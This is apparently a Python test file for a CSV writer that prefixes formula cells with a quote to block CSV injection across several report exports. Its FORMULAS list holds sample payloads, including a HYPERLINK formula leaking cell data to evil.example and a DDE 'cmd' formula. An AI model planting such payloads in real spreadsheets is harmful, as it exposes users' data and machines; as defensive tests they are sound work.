"""Every CSV download is written by one writer (``concord.csv_writer``) that neutralises formula cells.

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return runs as a formula when a
spreadsheet opens the file (OWASP, "CSV Injection"); it must reach the file with a leading ``'``. Plain
numbers (``-0.12``) stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from adjudication.analysis import rendering
from concord.csv_writer import csv_cell, csv_writer

ROOT = Path(__file__).resolve().parent.parent
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1", "\r=1"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(text: str) -> None:
    bad = [
        c
        for c in _cells(text)
        if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not re.match(r"^-[\d.]", c))
    ]
    assert not bad, bad


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_cell_gets_a_leading_quote(cell):
    assert csv_cell(cell) == "'" + cell
    assert csv_cell(csv_cell(cell)) == "'" + cell  # idempotent


@pytest.mark.parametrize("cell", ["-0.12", "+3e-2", "1.5", "", "plain text", "a=b"])
def test_numbers_and_plain_text_are_left_alone(cell):
    assert csv_cell(cell) == cell


def test_non_text_cells_are_written_as_they_are():
    buffer = io.StringIO()
    csv_writer(buffer).writerows([[1, -2.5, None, True]])
    assert _cells(buffer.getvalue()) == ["1", "-2.5", "", "True"]


def _stat(**extra):
    return {"value": 0.5, "ci95": [0.4, 0.6], "ci_method": "bootstrap", "n_units": 10, "n_excluded_units": 0, **extra}


@pytest.mark.parametrize("evil", FORMULAS)
def test_the_agreement_csv_neutralises_pseudonyms_and_labels(evil):
    report = {
        "percent_agreement": _stat(), "fleiss_kappa": _stat(), "krippendorff_alpha": _stat(),
        "cohen_kappa": _stat(reason=evil),
        "cohen_kappa_pairs": [_stat(rater_a=evil, rater_b=evil)],
        "each_against_rest": [_stat(rater=evil)],
        "per_label": [_stat(label=evil)],
    }  # fmt: skip
    text = rendering.agreement_csv(report)
    assert "'" + evil in _cells(text)
    _assert_no_formula(text)
    multilabel = {
        "multilabel": True,
        "per_option": [{
            "option": evil, "percent_agreement": _stat(), "fleiss_kappa": _stat(), "krippendorff_alpha": _stat(),
            "cohen_kappa_pairs": [_stat(rater_a=evil, rater_b=evil)],
        }],
    }  # fmt: skip
    _assert_no_formula(rendering.agreement_csv(multilabel))


@pytest.mark.parametrize("evil", FORMULAS)
def test_the_raters_csv_neutralises_rater_and_class_names(evil):
    report = {
        "run": {"id": 1}, "target": evil,
        "model_vs_humans": [_stat(rater=evil, alpha=_stat())],
        "human_pairs": [_stat(rater_a=evil, rater_b=evil, alpha=_stat())],
        "references": {evil: {"available": True, "model_kappa": _stat(), "humans_kappa": [_stat(rater=evil)]}},
        "alpha_humans": _stat(), "alpha_with_model": _stat(),
        "per_class": {"per_class": [{"class": evil, "precision": _stat(), "recall": _stat(), "f1": _stat()}],
                      "macro_f1": _stat()},
    }  # fmt: skip
    text = rendering.rater_csv(report)
    assert "'" + evil in _cells(text)
    _assert_no_formula(text)


@pytest.mark.parametrize("evil", FORMULAS)
def test_the_model_comparison_csv_neutralises_backend_and_model_names(evil):
    run = {"run": {"id": 1, "backend": evil, "model_identity": evil}, "n_units": 3, "auc": _stat(),
           "accuracy": _stat(), "at_threshold": {"f1": _stat()},
           "cost": {"prompt_tokens": None, "completion_tokens": None, "seconds": None}}  # fmt: skip
    pair = {"run_a": evil, "run_b": evil, "n_units": 3, "delong": {"value": 0.1, "p_value": 0.5},
            "mcnemar": {"chi2": 1.0, "p_chi2": 0.3, "p_exact": 0.4}}  # fmt: skip
    text = rendering.comparison_csv({"runs": [run], "pairs": [pair]})
    assert "'" + evil in _cells(text)
    _assert_no_formula(text)


@pytest.mark.parametrize("evil", FORMULAS)
def test_the_outcome_csv_neutralises_model_subgroup_and_class_names(evil):
    f1 = {"value": 0.5, "ci95": [0.4, 0.6], "repeat_range": [0.45, 0.55]}
    block = {"n_items": 5, "per_class": [{"class": evil, "support": 3, "f1": f1, "chance_f1": 0.3}],
             "macro_f1": f1, "chance_macro_f1": 0.3}  # fmt: skip
    report = {"models": [{"model": evil, **block, "subgroups": [{"subgroup": evil, **block}]}]}
    text = rendering.outcome_csv(report)
    assert "'" + evil in _cells(text)
    _assert_no_formula(text)


def test_no_module_writes_csv_but_the_one_writer():
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for app in ("annotation", "adjudication", "scoring", "concord")
        for path in (ROOT / app).rglob("*.py")
        if writers.search(path.read_text()) and path != ROOT / "concord" / "csv_writer.py"
    ]
    assert not offenders, offenders
